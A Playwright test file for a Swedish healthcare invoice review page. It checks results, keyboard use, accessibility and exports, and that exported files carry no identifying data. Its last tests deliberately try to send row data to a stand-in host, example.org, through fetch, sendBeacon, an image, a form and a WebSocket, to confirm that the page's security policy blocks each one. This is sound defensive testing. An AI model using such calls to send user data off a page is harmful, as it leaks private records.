/* From a file that is dropped to what is taken along of its review – and that nothing of it leaves the page. */

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { assertAccessible, assertNoSidewaysScroll, openBrowser } from './browser.js';
import { dropFile, FINDINGS, invoice, openReview, review } from './review-page.js';

/** @typedef {import('playwright-core').Download} Download */
/** @typedef {import('playwright-core').Page} Page */

/** @type {Awaited<ReturnType<typeof openBrowser>>} */
let browser;
before(async () => {
  browser = await openBrowser();
});
after(() => browser.close());

const FILES = ['CSV för Excel', 'Excel (.xlsx)', 'Kvitto (.json)'];

const plain = (/** @type {string} */ text) => text.replaceAll('\u00A0', ' ');

/**
 * Text as it is printed, without what only screen readers are told.
 * @param {import('playwright-core').Locator} locator
 */
async function printed(locator) {
  const text = await locator.evaluate((element) => {
    const copy = /** @type {Element} */ (element.cloneNode(true));
    for (const unseen of copy.querySelectorAll('.unseen')) unseen.remove();
    return copy.textContent ?? '';
  });
  return plain(text).replace(/\s+/g, ' ');
}

/**
 * @param {Page} page
 * @param {string} name of a button
 * @returns {Promise<{ name: string, content: Buffer }>}
 */
async function saved(page, name) {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name, exact: true }).click(),
  ]);
  return { name: download.suggestedFilename(), content: readFileSync(await download.path()) };
}

describe('the result of a review', () => {
  it('answers in a sentence, and shows each check as found, passed or not done', async () => {
    const { page, faults } = await openReview(browser);
    await review(page, 'bilaga.csv', invoice());
    assert.match(
      await printed(page.locator('#result')),
      /Filen har 61 kontakter och .* fakturerat\. Det finns \d+ rader att fråga om/,
    );
    const found = await printed(page.locator('.result-check-list.found'));
    assert.match(found, /Samma kontakt-id flera gånger/);
    assert.match(found, /Beloppet skiljer sig från prislistan/);
    const passed = page.locator('.result-check-list.passed');
    assert.ok(!(await passed.isVisible()), 'what was found nothing in is folded');
    await page.emulateMedia({ media: 'print' });
    assert.ok(await passed.isVisible(), 'and is on paper all the same');
    await page.emulateMedia({ media: 'screen' });
    await page.locator('.result-passed > summary').press('Enter');
    assert.match(await printed(passed), /Datumet har inte inträffat/);
    const undone = await printed(page.locator('.result-check-list.notDone'));
    assert.match(undone, /Inte gjord\. Behöver .*fakturans totalbelopp/);
    assert.match(await printed(page.locator('.result-totals')), /Efter yrkeskategori.*Läkare/);
    assert.deepEqual(faults, []);
    await page.context().close();
  });

  it('has its rows filtered by check and gone to by number, by key alone', async () => {
    const { page, faults } = await openReview(browser);
    await review(page, 'bilaga.csv', invoice());
    await page.getByRole('button', { name: /visa raderna för ”Samma kontakt-id/ }).press('Enter');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'result-findings');
    assert.equal(await page.locator('#result-filter').inputValue(), 'duplicate.contact');
    const table = page.locator('.result-rows table');
    assert.equal(await table.getAttribute('aria-rowcount'), '2');
    assert.match(
      await printed(table.locator('tbody').nth(1)),
      new RegExp(`^ ?${FINDINGS.duplicate.row} ?Samma kontakt-id`),
    );
    await page.locator('#result-filter').selectOption('');
    await page.locator('#result-jump').focus();
    await page.keyboard.type(String(FINDINGS.dear.row));
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.activeElement?.tagName === 'TR');
    assert.match(
      plain(await page.evaluate(() => document.activeElement?.textContent ?? '')),
      new RegExp(`^${FINDINGS.dear.row}`),
    );
    assert.ok(await page.evaluate(() => document.activeElement?.hasAttribute('aria-rowindex')));
    await page.locator('#result-jump').fill('nej');
    await page.keyboard.press('Enter');
    await page.getByText('Skriv radens nummer med siffror.').waitFor({ state: 'attached' });
    assert.deepEqual(faults, []);
    await page.context().close();
  });

  it('keeps the focus in the table when the row that has it is scrolled away', async () => {
    const { page, faults } = await openReview(browser);
    const rows = Array.from({ length: 400 }, (_, place) => `K-${place};2020-03-04;Läkare;410,00`);
    await review(page, 'fel.csv', Buffer.from(['Kontakt-id;Datum;Yrke;Belopp brutto', ...rows, ''].join('\r\n')));
    await page.locator('#result-jump').fill('300');
    await page.locator('#result-jump').press('Enter');
    await page.waitForFunction(() => document.activeElement?.tagName === 'TR');
    await page.locator('.result-rows').evaluate((box) => box.scrollTo(0, 0));
    await page.waitForFunction(() => document.activeElement?.classList.contains('result-rows'));
    assert.deepEqual(faults, []);
    await page.context().close();
  });

  it('is as accessible in light and dark, on a wide screen and a phone', async () => {
    for (const colorScheme of /** @type {const} */ (['light', 'dark']))
      for (const [width, height] of [
        [1280, 900],
        [360, 800],
      ]) {
        const { page, faults } = await openReview(browser, {
          colorScheme,
          viewport: { width: width ?? 0, height: height ?? 0 },
        });
        await review(page, 'bilaga.csv', invoice());
        await page.evaluate(() => {
          for (const fold of document.querySelectorAll('details')) fold.open = true;
        });
        await assertAccessible(page, `${colorScheme}, ${width} px`);
        await assertNoSidewaysScroll(page);
        assert.deepEqual(faults, []);
        await page.context().close();
      }
  });

  it('goes into Räkna, Jämför and the answer sheet, and can be undone', async () => {
    const { page, faults } = await openReview(browser);
    await review(page, 'bilaga.csv', invoice());
    await page.getByRole('button', { name: 'Räkna med kontakterna' }).click();
    await page.waitForFunction(() => location.hash.startsWith('#/rakna'));
    await page.waitForSelector('#field-invoiced');
    assert.match(plain(await page.inputValue('#field-invoiced')), /^\d\d \d{3}/);
    assert.equal(await page.evaluate(() => location.hash), '#/rakna');
    await page.evaluate(() => {
      location.hash = '#/granska';
    });
    await page.waitForSelector('.review-result');
    await page.getByRole('button', { name: 'Gör ett svarsblad' }).click();
    await page.waitForSelector('uk-sheet-document .short-answer');
    await page.evaluate(() => {
      location.hash = '#/granska';
    });
    await page.getByRole('button', { name: 'Jämför med andra regioner' }).click();
    await page.getByText('Granskad faktura').first().waitFor();
    assert.match(await printed(page.locator('uk-comparison')), /Jämtland Härjedalen/);
    await page.keyboard.press('Control+z');
    await page.getByText('Granskad faktura').first().waitFor({ state: 'detached' });
    assert.deepEqual(faults, []);
    await page.context().close();
  });
});

describe('what is taken along', () => {
  it('has row numbers and codes, and nothing that identifies anybody', async () => {
    const { page, faults } = await openReview(browser);
    const file = invoice();
    await review(page, 'bilaga.csv', file);
    const csv = await saved(page, 'CSV för Excel');
    const text = csv.content.toString('utf8');
    assert.match(csv.name, /^granskning-\d{4}-\d\d-\d\d\.csv$/);
    assert.match(text, new RegExp(`bilaga\\.csv;${FINDINGS.duplicate.row};duplicate\\.contact;`));
    const book = await saved(page, 'Excel (.xlsx)');
    assert.equal(book.content.subarray(0, 2).toString(), 'PK');
    const receipt = await saved(page, 'Kvitto (.json)');
    const kept = JSON.parse(receipt.content.toString('utf8'));
    assert.match(kept.files[0].sha256, /^[0-9a-f]{64}$/);
    assert.equal(kept.files[0].bytes, file.length);
    await page.getByText('Visa brevet').click();
    const letter = await page.locator('article.result-letter').innerText();
    assert.match(letter, /Att vi frågar om en rad betyder inte att den är fel/);
    for (const shared of [text, receipt.content.toString('utf8'), letter])
      assert.doesNotMatch(shared, /KONTAKT-|PATIENT-|1987/);
    assert.doesNotMatch(await page.locator('body').innerText(), /KONTAKT-|PATIENT-/);
    assert.deepEqual(faults, []);
    await page.context().close();
  });

  it('is a letter alone on paper', async () => {
    const { page } = await openReview(browser);
    await review(page, 'bilaga.csv', invoice());
    await page.evaluate(() => {
      window.print = () => {};
    });
    await page.getByRole('button', { name: 'Skriv ut brevet' }).click();
    await page.emulateMedia({ media: 'print' });
    assert.ok(await page.locator('article.result-letter').isVisible());
    for (const hidden of ['#result', '.result-checks', '.exports', '.site', '.site-end'])
      assert.equal(await page.locator(hidden).first().isVisible(), false, hidden);
    await page.evaluate(() => dispatchEvent(new Event('afterprint')));
    assert.ok(await page.locator('#result').isVisible());
    await page.context().close();
  });
});

describe('nothing of the file leaves the page', () => {
  it('since the policy stops whatever tries', async () => {
    const { page } = await openReview(browser);
    await review(page, 'bilaga.csv', invoice());
    /** What was done with a request for another place; one that the policy stops is never sent. @type {string[]} */
    const sent = [];
    page.on('requestfailed', (request) => {
      const reason = request.failure()?.errorText;
      if (!request.url().startsWith(browser.url) && reason !== 'csp') sent.push(`${request.url()} ${reason}`);
    });
    page.on('response', (response) => {
      if (!response.url().startsWith(browser.url)) sent.push(response.url());
    });
    const outcomes = await page.evaluate(async () => {
      /** @type {string[]} */
      const violated = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        violated.push(`${effectiveDirective} ${new URL(blockedURI).host}`),
      );
      const there = 'https://example.org/collect?row=1';
      const fetched = await fetch(there, { method: 'POST', body: 'row' }).then(
        () => 'sent',
        () => 'stopped',
      );
      navigator.sendBeacon(there, 'row');
      const image = new Image();
      image.src = `${there}.png`;
      const form = document.createElement('form');
      form.action = there;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      try {
        new WebSocket('wss://example.org/');
      } catch {
        violated.push('connect-src threw');
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { fetched, violated };
    });
    assert.equal(outcomes.fetched, 'stopped');
    for (const directive of ['connect-src', 'img-src', 'form-action'])
      assert.ok(
        outcomes.violated.some((violation) => violation.startsWith(directive)),
        `${directive}: ${outcomes.violated.join(', ')}`,
      );
    assert.deepEqual(sent, []);
    await page.context().close();
  });

  it('since nothing at all is asked for from drop to export, and no network is needed', async () => {
    const { page, faults } = await openReview(browser);
    // The first time the page's own code comes for each thing that is done.
    await review(page, 'forsta.csv', invoice());
    for (const file of FILES) await saved(page, file);
    await page.waitForLoadState('networkidle');
    /** @type {string[]} */
    const asked = [];
    page.context().on('request', (request) => asked.push(`${request.method()} ${request.url()}`));
    await page.context().setOffline(true);
    await dropFile(page, 'andra.csv', invoice());
    await review(page);
    assert.match(await printed(page.locator('.result-file-name')), /andra\.csv/);
    for (const file of FILES) await saved(page, file);
    // What is saved is taken from the page itself.
    assert.deepEqual(
      asked.filter((request) => !request.startsWith('GET blob:')),
      [],
    );
    const kept = await page.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      cookies: document.cookie,
      databases: (await indexedDB.databases()).length,
      caches: await caches.keys().then(
        (names) => names.length,
        () => 0,
      ),
      address: location.href,
      state: history.state,
    }));
    assert.deepEqual(kept, {
      ...{ local: 0, session: 0, cookies: '', databases: 0, caches: 0 },
      // The page marks each place as seen.
      ...{ address: `${browser.url}#/granska`, state: 'seen' },
    });
    assert.deepEqual(faults, []);
    await page.context().close();
  });
});
